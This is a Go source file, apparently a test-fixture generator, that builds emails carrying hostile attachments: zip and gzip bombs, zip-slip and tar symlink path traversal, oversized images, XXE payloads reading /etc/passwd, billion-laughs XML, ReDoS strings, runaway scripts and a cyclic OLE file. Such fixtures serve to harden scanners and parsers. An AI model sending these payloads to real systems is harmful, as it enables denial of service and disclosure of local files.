package hostile

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
)

// A Bomb makes one message whose attachment costs much to open.
type Bomb struct {
	Name string
	Make func() []byte
}

// Bombs returns the makers of attachments that grow when they are opened: archives (T1 of the list in the package
// comment), images (T5), XML (T6), pages and scripts (T7), and documents.
func Bombs() []Bomb {
	attached := func(name string, content func() []byte) Bomb {
		ext := name[strings.LastIndexByte(name, '.'):]
		return Bomb{strings.TrimSuffix(name, ext), func() []byte { return mail(name, content()) }}
	}
	script := func(s string) []byte { return []byte("<html><body><script>" + s + "</script></body></html>") }
	return []Bomb{
		attached("zip-flat-100MB.zip", func() []byte { return zipped(zeros(100<<20), "zeros.html") }),
		attached("zip-nested-25GB.zip", func() []byte {
			z := zipped(zeros(25<<10), "page.html")
			for range 5 {
				z = zipped(z, numbered("in%d.zip", 16)...)
			}
			return z
		}),
		attached("zip-overlap-20GB.zip", func() []byte { return overlapping(zeros(10<<20), 2000) }),
		attached("zip-depth-200.zip", func() []byte {
			z := zipped([]byte(page), "page.html")
			for range 200 {
				z = zipped(z, "in.zip")
			}
			return z
		}),
		attached("zip-65k-entries.zip", func() []byte { return zipped([]byte("x"), numbered("f%d.txt", 65_000)...) }),
		attached("zip-slip.zip", func() []byte {
			return zipped([]byte(page), "../../../../tmp/coldwatch-slip.html", "/etc/x.html", "c:\\x.html")
		}),
		attached("gz-1GB.gz", func() []byte { return bytes.Repeat(gzipped(zeros(16<<20)), 64) }),
		attached("gz-in-gz-1GB.gz", func() []byte { return gzipped(bytes.Repeat(gzipped(zeros(16<<20)), 64)) }),
		attached("tar-traversal-symlink.tar", tarball),
		attached("png-50000x50000.png", func() []byte { return png(50_000, 50_000) }),
		attached("gif-65535x65535.gif", func() []byte {
			return append([]byte("GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02"), 2, 'D', 1, 0, ';')
		}),
		attached("png-6000x6000.png", func() []byte { return png(6_000, 6_000) }),
		attached("svg-xxe.svg", func() []byte {
			return []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://127.0.0.1:1/">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;&y;</text></svg>`)
		}),
		attached("xlsx-billion-laughs-xxe.xlsx", func() []byte {
			var b strings.Builder
			b.WriteString(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a0 "ha">`)
			for i := 1; i < 30; i++ {
				fmt.Fprintf(&b, `<!ENTITY a%d "%s">`, i, strings.Repeat(fmt.Sprintf("&a%d;", i-1), 10))
			}
			b.WriteString(`]><sst><si><t>&a29;&x;</t></si></sst>`)
			return zipped([]byte(b.String()), "[Content_Types].xml", "xl/workbook.xml", "xl/sharedStrings.xml")
		}),
		attached("svg-squares.svg", func() []byte {
			return []byte(`<svg xmlns="http://www.w3.org/2000/svg">` + strings.Repeat(`<rect width="9" height="9"/>`, 19_000) + "</svg>")
		}),
		attached("redos-urls.html", func() []byte {
			return []byte("<body>" + strings.Repeat("http://a.a.a.a@", 20_000) + strings.Repeat("(((((a+)+)+)+)+)", 10_000) + strings.Repeat("<a href='http://x.example/?%2525", 20_000))
		}),
		attached("html-depth-200k.html", func() []byte { return []byte(strings.Repeat("<div><table><tr><td><form>", 200_000)) }),
		attached("html-attrs-100k.html", func() []byte { return []byte("<input " + strings.Repeat("a=b onclick=c style=d ", 100_000) + ">") }),
		attached("html-entities-1M.html", func() []byte { return []byte(strings.Repeat("&lt;&#x41;&bogus", 330_000)) }),
		attached("html-unclosed.html", func() []byte { return []byte(strings.Repeat("<a href=\"http://x.example/", 100_000)) }),
		attached("html-comments.html", func() []byte { return []byte(strings.Repeat("<!--", 500_000)) }),
		attached("html-styles.html", func() []byte {
			return []byte("<style>" + strings.Repeat("a,b>c{display:none}", 60_000) + "</style>" + strings.Repeat("<a>x</a>", 60_000))
		}),
		attached("js-deep-obfuscation.html", func() []byte {
			layers := page
			for range 16 {
				layers = "<script>document.write(unescape('" + strings.NewReplacer("%", "%25", "'", "%27").Replace(layers) + "'))</script>"
			}
			return []byte(layers)
		}),
		attached("js-brackets.html", func() []byte { return script(strings.Repeat("[", 1_000_000)) }),
		attached("js-unary.html", func() []byte { return script("x=" + strings.Repeat("!", 1_000_000) + "1") }),
		attached("js-endless.html", func() []byte { return script("for(;;){document.write('<p>'+Math.random())}") }),
		attached("js-doubling.html", func() []byte { return script("s='xxxxxxxx';for(;;){s+=s;document.write(s)}") }),
		attached("js-recursion.html", func() []byte { return script("function f(){return f()+f()};document.write(f())") }),
		attached("js-regexp.html", func() []byte { return script("document.write(/^(a+)+$/.test('" + strings.Repeat("a", 40) + "!'))") }),
		attached("js-concatenation.html", func() []byte { return script("x=''" + strings.Repeat("+'a'", 500_000) + ";document.write(x)") }),
		attached("pdf-streams.pdf", func() []byte { return pdf(zlibbed(zlibbed(zeros(200 << 20)))) }),
		attached("pdf-brackets.pdf", func() []byte { return []byte("%PDF-1.7\n1 0 obj\n" + strings.Repeat("[<<", 500_000)) }),
		attached("pdf-objects.pdf", func() []byte {
			return []byte("%PDF-1.7\n" + strings.Join(numbered("%d 0 obj<</Type/Page/Parent 1 0 R/Kids[1 0 R 2 0 R]/Annots[3 0 R]>>endobj", 50_000), "\n"))
		}),
		attached("rtf-groups.rtf", func() []byte { return []byte("{\\rtf1" + strings.Repeat("{\\object{\\objdata 01", 200_000)) }),
		attached("ics-lines.ics", func() []byte {
			return []byte("BEGIN:VCALENDAR\n" + strings.Repeat("BEGIN:VEVENT\nURL:http://x.example/\n y\n", 50_000))
		}),
		attached("ole-circle.doc", circle),
	}
}

// mail is a message with one attachment.
func mail(name string, content []byte) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%sMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=real\n\n--real\nContent-Type: text/plain\n\nPlease see the file.\n--real\n", envelope)
	fmt.Fprintf(&b, "Content-Type: application/octet-stream; name=%q\nContent-Disposition: attachment; filename=%q\nContent-Transfer-Encoding: base64\n\n", name, name)
	line := make([]byte, 76)
	for len(content) > 0 {
		n := min(57, len(content))
		base64.StdEncoding.Encode(line, content[:n])
		b.Write(line[:base64.StdEncoding.EncodedLen(n)])
		b.WriteByte('\n')
		content = content[n:]
	}
	b.WriteString("--real--\n")
	return b.Bytes()
}

func zeros(n int) []byte { return make([]byte, n) }

func numbered(format string, n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf(format, i)
	}
	return out
}

// zipped is a zip with the same content under each name.
func zipped(content []byte, names ...string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	packed := deflated(content)
	for _, n := range names {
		// Into memory: nothing fails.
		w, _ := z.CreateRaw(&zip.FileHeader{Name: n, Method: zip.Deflate, CRC32: crc32.ChecksumIEEE(content), CompressedSize64: uint64(len(packed)), UncompressedSize64: uint64(len(content))})
		w.Write(packed)
	}
	z.Close()
	return b.Bytes()
}

func deflated(content []byte) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, 6)
	w.Write(content)
	w.Close()
	return b.Bytes()
}

func zlibbed(content []byte) []byte { // no reader of PDF looks at the checksum
	return append([]byte{0x78, 0x9c}, append(deflated(content), 0, 0, 0, 0)...)
}

func gzipped(content []byte) []byte {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, 6)
	w.Write(content)
	w.Close()
	return b.Bytes()
}

// overlapping is a zip whose directory names one and the same packed file n times.
func overlapping(content []byte, n int) []byte {
	z := zipped(content, "zeros.html")
	le := binary.LittleEndian
	end := len(z) - 22
	start := int(le.Uint32(z[end+16:]))
	entry := z[start:end]
	out := append([]byte(nil), z[:start]...)
	for range n {
		out = append(out, entry...)
	}
	tail := append([]byte(nil), z[end:]...)
	le.PutUint16(tail[8:], uint16(n))
	le.PutUint16(tail[10:], uint16(n))
	le.PutUint32(tail[12:], uint32(n*len(entry)))
	return append(out, tail...)
}

func tarball() []byte {
	var b bytes.Buffer
	t := tar.NewWriter(&b)
	t.WriteHeader(&tar.Header{Name: "link", Typeflag: tar.TypeSymlink, Linkname: "/etc"})
	for _, n := range []string{"link/coldwatch.html", "../../coldwatch.html"} {
		t.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(page))})
		t.Write([]byte(page))
	}
	t.Close()
	return b.Bytes()
}

// png is a picture of one grey colour at one bit a pixel.
func png(width, height int) []byte {
	chunk := func(b []byte, kind string, content []byte) []byte {
		b = binary.BigEndian.AppendUint32(b, uint32(len(content)))
		body := append([]byte(kind), content...)
		return binary.BigEndian.AppendUint32(append(b, body...), crc32.ChecksumIEEE(body))
	}
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, uint32(width)), uint32(height))
	rows := zeros(height * (1 + (width+7)/8))
	var sum [4]byte
	binary.BigEndian.PutUint32(sum[:], uint32(len(rows)%65521)<<16|1) // Adler-32 of zeros
	data := append(append([]byte{0x78, 0x9c}, deflated(rows)...), sum[:]...)
	b := chunk([]byte("\x89PNG\r\n\x1a\n"), "IHDR", append(head, 1, 0, 0, 0, 0))
	return chunk(chunk(b, "IDAT", data), "IEND", nil)
}

func pdf(stream []byte) []byte {
	return []byte(fmt.Sprintf("%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R 2 0 R]/Count 9>>endobj\n"+
		"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n4 0 obj<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream endobj\ntrailer<</Root 1 0 R>>\n", len(stream), stream))
}

// circle is a compound file ([MS-CFB]) whose chains of sectors and of directory entries never end.
func circle() []byte {
	le := binary.LittleEndian
	b := zeros(512 * 4)
	copy(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	for _, f := range []struct{ at, v int }{{24, 0x3e}, {26, 3}, {28, 0xfffe}, {30, 9}, {32, 6}} {
		le.PutUint16(b[f.at:], uint16(f.v))
	}
	for _, f := range []struct{ at, v int }{{44, 1}, {48, 1}, {56, 4096}, {60, 2}, {64, 1}, {68, 0}, {72, 0x7fffffff}} {
		le.PutUint32(b[f.at:], uint32(f.v))
	}
	for i := 76; i < 512; i += 4 {
		le.PutUint32(b[i:], 0)
	}
	for i := 512; i < 1024; i += 4 {
		le.PutUint32(b[i:], 1) // every sector leads to the directory
	}
	for i := 0; i < 4; i++ {
		e := b[1024+128*i:]
		copy(e, "W\x00o\x00r\x00d\x00")
		le.PutUint16(e[64:], 10)
		e[66] = byte(1 + i%2)
		for _, at := range []int{68, 72, 76} {
			le.PutUint32(e[at:], uint32((i+1)%4))
		}
		le.PutUint32(e[116:], 1)
		le.PutUint32(e[120:], 0x7fffffff)
	}
	return b
}
